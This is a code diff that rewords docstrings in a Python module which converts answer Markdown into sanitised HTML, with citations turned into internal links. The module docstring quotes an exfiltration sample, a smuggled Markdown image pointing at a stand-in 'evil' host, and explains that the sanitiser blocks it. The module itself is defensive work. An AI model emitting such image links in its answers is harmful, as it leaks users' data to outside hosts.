@@ -1,8 +1,8 @@
-"""An answer's Markdown to HTML that is safe to show.
+"""Converts an answer's Markdown to HTML that is safe to show.
 
 Raw HTML is off in the parser, images do not exist, links may only point into the product (an external one is shown as
-its text), and the sanitiser lets nothing but a few elements through. So a note that smuggles `![x](https://evil/?…)`
-into an answer shows text and fetches nothing. Citations become links to the record.
+its text), and the sanitiser allows only a few elements. So a note that smuggles `![x](https://evil/?…)` into an answer
+shows text and fetches nothing. Citations become links to the record.
 """
 
 import html
@@ -23,7 +23,7 @@ _INTERNAL = re.compile(r"^/(?![/\\])[\w\-./?=&%,:;+]*", re.ASCII)
 _CITATION = re.compile(r"\[(\d{1,3})\]")
 _SPECIAL = str.maketrans({c: "\\" + c for c in "\\`*_[]<>#|!&~"})
 _AT_START = re.compile(r"^(\d{1,9}(?=[.)])|(?=[-+=]))(.)")
-"""What would begin a list, a rule or a heading where the value stands first on a line."""
+"""Characters that begin a list, a rule or a heading at the start of a line."""
 _TAGS = {
     "p", "br", "strong", "em", "s", "code", "pre", "blockquote", "ul", "ol", "li", "h3", "h4", "h5", "hr",
     "table", "thead", "tbody", "tr", "th", "td", "a", "span",
@@ -48,7 +48,9 @@ def is_internal(href: str) -> bool:
 
 
 def escape(value: str) -> str:
-    """Contents of a record as plain text inside Markdown, on one line: no marks, links or citations of their own making."""
+    """Contents of a record as plain text inside Markdown, on one line, without markup, links or citations of their
+    own.
+    """
     return _AT_START.sub(r"\1\\\2", apart(" ".join(value.split()).translate(_SPECIAL)))
 
 
@@ -57,7 +59,7 @@ def render(markdown: str, sources: Sequence[Source]) -> str:
 
     Args:
         markdown: the answer; cut at `MAX_MARKDOWN` characters.
-        sources: what [1], [2] … stand for. A number without a source stays plain text.
+        sources: the sources of [1], [2] …. A number without a source stays plain text.
     """
     tokens = _PARSER.parse(without_overrides(markdown[:MAX_MARKDOWN]))
     for token in tokens:
@@ -85,7 +87,7 @@ def _children(children: list[Token], sources: Sequence[Source]) -> list[Token]:
         elif child.type == "text":
             result += _chips(child.content, sources)
         elif child.type == "text_special":
-            # An escaped character or an entity. Only the joining that is turned off makes text of it.
+            # An escaped character or an entity, which only the disabled joining would turn into text.
             result.append(_token("text", child.content))
         else:
             result.append(child)
